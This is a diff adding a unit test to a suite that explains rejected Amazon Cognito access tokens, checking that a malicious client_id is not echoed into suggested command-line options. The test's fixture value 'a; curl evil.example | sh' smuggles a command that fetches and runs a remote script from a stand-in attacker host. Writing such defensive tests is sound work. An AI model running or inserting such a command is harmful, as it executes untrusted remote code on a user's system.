@@ -230,6 +230,14 @@ describe('a token of a pool that is not named', () => {
     expect(result.message).not.toContain('none)');
   });
 
+  it('says no options that would do something else in a shell', async () => {
+    const { userPoolId } = pools.legacyPool;
+    const result = await explain(pools.legacyPool.accessToken({ client_id: 'a; curl evil.example | sh' }));
+    expect(result.message).toContain(`issued it for no app client of Cognito. If they are yours, name them: `);
+    expect(result.message).toMatch(new RegExp(`: --legacy-pool ${userPoolId}, or --new-pool ${userPoolId}\\.$`));
+    expect(result.message).not.toContain('evil');
+  });
+
   it('is not from Cognito', async () => {
     const result = await explain(pools.newPool.accessToken({ iss: 'https://accounts.example.com' }), ...both());
     expect(result.message).toContain('it is not from Amazon Cognito');
